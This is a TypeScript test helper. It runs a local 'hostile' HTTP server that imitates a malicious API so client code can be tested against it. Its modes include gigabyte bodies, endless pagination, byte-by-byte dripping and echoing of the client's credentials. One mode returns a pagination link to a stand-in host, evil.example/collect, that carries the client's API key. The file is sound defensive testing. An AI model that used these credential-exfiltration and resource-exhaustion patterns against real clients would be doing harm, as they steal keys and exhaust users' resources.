import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * A server that does what a broken or hostile deployment could: a body of gigabytes,
 * a listing whose `next` never ends, a body dripped one byte at a time, answers that
 * echo the credentials they were sent. Real HTTP on 127.0.0.1; it counts what it
 * managed to send, so a test can prove that the client stopped reading.
 */
export type HostileMode =
  /** 200 with `size` bytes of a JSON-looking body, generated as the client reads (never held in memory). */
  | { kind: "huge"; size: number; announce: boolean }
  /** A valid listing page of `perPage` domains whose `next` always points to one more page. */
  | { kind: "endless"; perPage: number }
  /** Headers at once, then one byte every `everyMs`, forever. */
  | { kind: "drip"; everyMs: number }
  /** `status` with a text body quoting the request's credential `offset` characters in, then every request header. */
  | { kind: "echo"; status: number; offset: number }
  /** 200, a first page whose `next` link carries the request's key. */
  | { kind: "echo-next" };

export class HostileServer {
  private server: Server | undefined;
  private readonly timers = new Set<NodeJS.Timeout>();
  baseUrl = "";
  /** Body bytes written to clients so far (all requests). */
  bytesSent = 0;
  requests = 0;

  constructor(public mode: HostileMode) {}

  get apiRoot(): string {
    return `${this.baseUrl}/api/v1.0/`;
  }

  async start(): Promise<this> {
    this.server = createServer((req, res) => this.serve(req, res));
    await new Promise<void>((resolve) => this.server!.listen(0, "127.0.0.1", resolve));
    this.baseUrl = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
    return this;
  }

  async stop(): Promise<void> {
    for (const t of this.timers) clearInterval(t);
    if (!this.server) return;
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server!.close(() => resolve()));
    this.server = undefined;
  }

  private serve(req: IncomingMessage, res: ServerResponse): void {
    this.requests++;
    req.resume();
    const mode = this.mode;
    switch (mode.kind) {
      case "huge":
        return this.huge(res, mode.size, mode.announce);
      case "endless": {
        const url = new URL(req.url ?? "/", this.baseUrl);
        const page = Number(url.searchParams.get("page") ?? "1");
        url.searchParams.set("page", String(page + 1));
        const results = Array.from({ length: mode.perPage }, (_, i) => ({ name: `p${page}-d${i}.example.org`, expected_dns_records: [] }));
        return this.send(res, 200, JSON.stringify({ count: null, next: url.toString(), previous: null, results }));
      }
      case "drip": {
        res.writeHead(200, { "content-type": "application/json" });
        res.write("{");
        const timer = setInterval(() => {
          if (res.destroyed) {
            clearInterval(timer);
            this.timers.delete(timer);
            return;
          }
          this.bytesSent++;
          res.write(" ");
        }, mode.everyMs);
        this.timers.add(timer);
        res.on("close", () => {
          clearInterval(timer);
          this.timers.delete(timer);
        });
        return;
      }
      case "echo": {
        // The credential first, `offset` characters in (where a client's excerpt may cut it), then every header.
        const credential = String(req.headers["x-api-key"] ?? req.headers.authorization ?? "");
        const quoted = Object.entries(req.headers).map(([k, v]) => `${k}: ${String(v)}`).join("\n");
        return this.send(res, mode.status, `${"x".repeat(mode.offset)}${credential} — the request was:\n${quoted}`);
      }
      case "echo-next": {
        const key = String(req.headers["x-api-key"] ?? req.headers.authorization ?? "");
        return this.send(res, 200, JSON.stringify({ next: `http://evil.example/collect?key=${key}`, results: [] }));
      }
    }
  }

  private send(res: ServerResponse, status: number, body: string): void {
    this.bytesSent += Buffer.byteLength(body);
    res.writeHead(status, { "content-type": "application/json", "content-length": Buffer.byteLength(body) }).end(body);
  }

  /** Streams `size` bytes, as fast as the client reads and no faster (backpressure), until it hangs up. */
  private huge(res: ServerResponse, size: number, announce: boolean): void {
    res.writeHead(200, { "content-type": "application/json", ...(announce ? { "content-length": String(size) } : {}) });
    const chunk = Buffer.alloc(1 << 16, 0x20);
    chunk[0] = 0x5b; // "[": JSON that never closes
    let left = size;
    const pump = (): void => {
      while (left > 0 && !res.destroyed) {
        const piece = left >= chunk.length ? chunk : chunk.subarray(0, left);
        left -= piece.length;
        this.bytesSent += piece.length;
        if (!res.write(piece)) {
          res.once("drain", pump);
          return;
        }
      }
      if (left === 0) res.end();
    };
    res.on("close", () => {
      left = 0;
    });
    pump();
  }
}

export async function startHostile(mode: HostileMode): Promise<HostileServer> {
  return new HostileServer(mode).start();
}
